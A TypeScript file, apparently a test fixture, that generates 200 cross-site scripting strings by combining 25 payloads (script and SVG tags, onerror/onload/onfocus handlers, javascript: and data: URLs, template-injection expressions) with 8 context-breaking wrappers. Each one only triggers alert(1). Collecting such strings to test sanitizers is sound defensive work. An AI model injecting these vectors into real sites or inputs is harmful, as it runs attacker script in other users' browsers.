/** Two hundred strings that run something where text is taken for markup, an address or a style; each would open a dialog. */

const call = "alert(1)"
const shells: ReadonlyArray<(inside: string) => string> = [
  (inside) => inside,
  (inside) => `">${inside}`,
  (inside) => `'>${inside}`,
  (inside) => `</textarea>${inside}`,
  (inside) => `</title></style>${inside}`,
  (inside) => `--></script>${inside}`,
  (inside) => `\u202E${inside}`,
  (inside) => `https://example.org/${inside}`,
]
const seeds: ReadonlyArray<string> = [
  `<script>${call}</script>`,
  `<ScRiPt/x>${call}</sCrIpT>`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}"//`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<body onload=${call}>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<a href="javascript:${call}" autofocus onfocus=${call}>x</a>`,
  `<input autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<object data="javascript:${call}"></object>`,
  `<math href="javascript:${call}">x</math>`,
  `<style>*{background:url("javascript:${call}")}</style>`,
  `<link rel=stylesheet href="javascript:${call}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  `javascript:${call}`,
  `JaVaScRiPt:${call}//`,
  `data:text/html,<script>${call}</script>`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
]

export const hostileStrings: ReadonlyArray<string> = seeds.flatMap((seed) =>
  shells.map((shell) => shell(seed)),
)
